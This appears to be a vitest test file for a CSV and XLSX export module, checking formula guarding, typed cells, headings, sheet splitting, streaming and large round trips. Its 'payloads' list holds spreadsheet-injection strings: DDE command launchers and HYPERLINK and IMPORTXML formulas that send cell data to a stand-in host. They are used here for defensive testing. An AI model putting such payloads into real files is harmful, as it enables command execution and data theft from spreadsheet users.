import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { Random } from '@/server/domain/oracle/seeded-random';
import { withoutGuard } from '@/server/domain/text/csv-cell';
import type { ExportColumn, OpenedList, Row } from './exported-list';
import { readWorkbook, readZip } from './testing/read-workbook';
import { writeCsv } from './write-csv';
import { writeXlsx } from './xlsx/write-xlsx';

const columns: readonly ExportColumn[] = (
  [
    ['name', 'text'],
    ['amount', 'number'],
    ['spend', 'money'],
    ['day', 'date'],
    ['at', 'instant'],
    ['yes', 'boolean'],
  ] as const
).map(([key, type]) => ({ key, heading: key, type, words: null }));

function listOf(rows: readonly Row[], pageSize = 1_000): OpenedList {
  return { title: 'List', columns, pages: pagesOf(rows, pageSize) };
}

async function* pagesOf(rows: readonly Row[], size: number) {
  for (let from = 0; from < rows.length; from += size) yield rows.slice(from, from + size);
}

async function csvOf(list: OpenedList): Promise<string> {
  let text = '';
  for await (const piece of writeCsv(list, 'words')) text += piece;
  return text;
}

async function xlsxOf(list: OpenedList, sheetRows?: number): Promise<Buffer> {
  const pieces: Uint8Array[] = [];
  for await (const piece of writeXlsx(list, 'words', sheetRows)) pieces.push(piece);
  return Buffer.concat(pieces);
}

const named = (name: string): Row => [name, null, null, null, null, null];

/** Starts of what spreadsheets run, alone and before commands, links and imports. */
const payloads = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '＝', '＋', '－', '＠', "'="].flatMap(
  (start) =>
    [
      '1+1',
      "cmd|' /C calc'!A0",
      'HYPERLINK("http://evil.example?x="&A1,"see")',
      'IMPORTXML("http://evil.example","//a")',
      'DDE("cmd";"/C calc";"x")',
    ].map((rest) => start + rest),
);

describe('formulas', () => {
  it('are sixty here', () => expect(new Set(payloads).size).toBe(60));

  it('cannot start in a cell of a CSV file', async () => {
    const rows: string[][] = parse(await csvOf(listOf(payloads.map(named))), {
      bom: true,
      from_line: 2,
    });
    expect(rows.filter(([cell]) => !cell?.startsWith("'"))).toEqual([]);
    expect(rows.map(([cell]) => withoutGuard(cell ?? ''))).toEqual(payloads);
  });

  it('are text in a workbook, unchanged, and quoted for whoever edits the cell', async () => {
    const [sheet] = await readWorkbook(await xlsxOf(listOf(payloads.map(named))));
    const cells = sheet?.rows.slice(1).map(([cell]) => cell);
    expect(cells?.map((cell) => cell?.value)).toEqual(payloads);
    expect(new Set(cells?.map((cell) => `${cell?.type} ${cell?.style} ${cell?.formula}`))).toEqual(
      new Set(['inlineStr 4 false']),
    );
  });

  it('cannot stand in the head of either', async () => {
    const evil = (): OpenedList => ({
      title: '=1+1',
      columns: [{ key: '=k', heading: '=1+1', type: 'number', words: null }],
      pages: pagesOf([], 1),
    });
    expect(await csvOf(evil())).toBe("\uFEFF'=1+1\r\n");
    const [sheet] = await readWorkbook(await xlsxOf(evil()));
    expect(sheet?.rows[0]).toEqual([
      { type: 'inlineStr', style: 1, value: '=1+1', formula: false },
    ]);
  });
});

describe('typed cells', () => {
  const row: Row = ['a', '-5', '-1234567.10', '2024-02-29', '2024-03-01T18:00:00.5+08:00', 'true'];

  it('are plain in CSV: a negative number is never guarded', async () => {
    expect(await csvOf(listOf([row]))).toBe(
      `\uFEFFname,amount,spend,day,at,yes\r\n${row.join(',')}\r\n`,
    );
  });

  it('are numbers, days and wall times in a workbook', async () => {
    const [sheet] = await readWorkbook(await xlsxOf(listOf([row])));
    const told = sheet?.rows[1]?.map(({ type, style, value }) => [type, style, value]);
    expect(told).toEqual([
      ['inlineStr', 0, 'a'],
      [null, 0, '-5'],
      [null, 5, '-1234567.10'],
      [null, 2, '45351'],
      [null, 3, String(45352 + (18 * 3600 + 0.5) / 86_400)],
      ['b', 0, '1'],
    ]);
  });

  it('lose no digit: what a spreadsheet would round or cannot count is text', async () => {
    const long = '12345678901234567.89';
    const early = ['a', long, `-${long}`, '1899-12-31', '1900-01-01T00:00:00+08:00', 'false'];
    const [sheet] = await readWorkbook(await xlsxOf(listOf([early])));
    expect(sheet?.rows[1]?.map(({ type, value }) => [type, value])).toEqual([
      ['inlineStr', 'a'],
      ['inlineStr', long],
      ['inlineStr', `-${long}`],
      ['inlineStr', '1899-12-31'],
      ['inlineStr', '1900-01-01T00:00:00+08:00'],
      ['b', '0'],
    ]);
  });
});

describe('heads and words', () => {
  it('are those of people or of programs, and never the same twice', async () => {
    const words = new Map([['vip', '贵宾']]);
    const two = (): OpenedList => ({
      title: '名单',
      columns: [
        { key: 'a', heading: '等级', type: 'choice', words },
        { key: 'b', heading: '等级', type: 'text', words: null },
      ],
      pages: pagesOf([['vip', 'vip']], 1),
    });
    expect(await csvOf(two())).toBe('\uFEFF等级 (a),等级 (b)\r\n贵宾,vip\r\n');
    let keys = '';
    for await (const piece of writeCsv(two(), 'keys')) keys += piece;
    expect(keys).toBe('\uFEFFa,b\r\nvip,vip\r\n');
  });
});

describe('a workbook', () => {
  it('goes on in a next sheet where one is full', async () => {
    const rows = Array.from({ length: 7 }, (_, n) => named(`n${n}`));
    const sheets = await readWorkbook(await xlsxOf(listOf(rows, 2), 3));
    expect(
      sheets.map(({ name, rows: [, ...below] }) => [name, below.map(([c]) => c?.value)]),
    ).toEqual([
      ['List', ['n0', 'n1', 'n2']],
      ['List (2)', ['n3', 'n4', 'n5']],
      ['List (3)', ['n6']],
    ]);
  });

  it('has its head in bold and in sight', async () => {
    const parts = await readZip(await xlsxOf(listOf([])));
    expect(parts.get('xl/worksheets/sheet1.xml')).toContain('state="frozen"');
    expect(parts.get('xl/styles.xml')).toContain('<b/>');
  });

  it('takes any title for the name of a sheet', async () => {
    const title = '\'[a]:*?/\\ <&>" 一二三四五六七八九十一二三四五六七八九十一二三四五六七八九十😀';
    const [sheet] = await readWorkbook(await xlsxOf({ ...listOf([]), title }));
    expect(sheet?.name.length).toBeLessThanOrEqual(31);
    expect(sheet?.name).not.toMatch(/[[\]:*?/\\]|^'|\p{Surrogate}/u);
  });
});

describe('a file that nobody reads on', () => {
  const endless = () => {
    const told = { pages: 0, ended: false };
    async function* pages() {
      try {
        for (;;) {
          told.pages += 1;
          yield Array.from({ length: 1_000 }, (_, n) =>
            named(`${told.pages} ${n} ${Math.sqrt(n)}`),
          );
        }
      } finally {
        told.ended = true;
      }
    }
    return { told, list: { title: 'Endless', columns, pages: pages() } };
  };

  it.each([
    ['csv', writeCsv],
    ['xlsx', writeXlsx],
  ] as const)('is not read ahead of by %s, and ends the reading', async (_, write) => {
    const { told, list } = endless();
    const chunks = write(list, 'words');
    for (let n = 0; n < 4; n += 1) await chunks.next();
    expect(told.pages).toBeLessThan(8);
    await chunks.return(undefined);
    expect(told.ended).toBe(true);
  });
});

describe('100,000 rows of any signs', () => {
  const seeded = new Random(7);
  const random = () => seeded.next();
  const alphabet = [
    ...Array.from('abc "\',;=+-@<>&_x0041_\n\r\t'),
    ...['张', '伟', 'é', '\u0007', '\u2028', '\uFFFE', '\u{1F600}', '\u202E', 'ﷺ', '\\', '\u00A0'],
  ];
  const pick = (n: number) => Math.floor(random() * n);
  const text = () =>
    Array.from({ length: 1 + pick(12) }, () => alphabet[pick(alphabet.length)]).join('');
  const rows: Row[] = Array.from({ length: 100_000 }, () => [
    text(),
    String(pick(2_000) - 1_000),
    (random() * 1e6 - 5e5).toFixed(2),
    new Date(Date.UTC(1950 + pick(100), pick(12), 1 + pick(28))).toISOString().slice(0, 10),
    null,
    random() < 0.5 ? null : 'true',
  ]);

  it('come back from CSV', async () => {
    const read: string[][] = parse(await csvOf(listOf(rows)), { bom: true, from_line: 2 });
    const back = read.map((row) =>
      row.map((cell, index) => (cell === '' ? null : index === 0 ? withoutGuard(cell) : cell)),
    );
    expect(back).toEqual(rows);
  });

  it('come back from a workbook', async () => {
    const [sheet] = await readWorkbook(await xlsxOf(listOf(rows)));
    const below = sheet?.rows.slice(1) ?? [];
    expect(below).toHaveLength(rows.length);
    const wrong = below.findIndex((cells, index) => {
      const [name, amount, spend] = rows[index] ?? [];
      return cells[0]?.value !== name || cells[1]?.value !== amount || cells[2]?.value !== spend;
    });
    expect([wrong, below[wrong]?.[0]?.value, rows[wrong]?.[0]]).toEqual([-1, undefined, undefined]);
  });
});
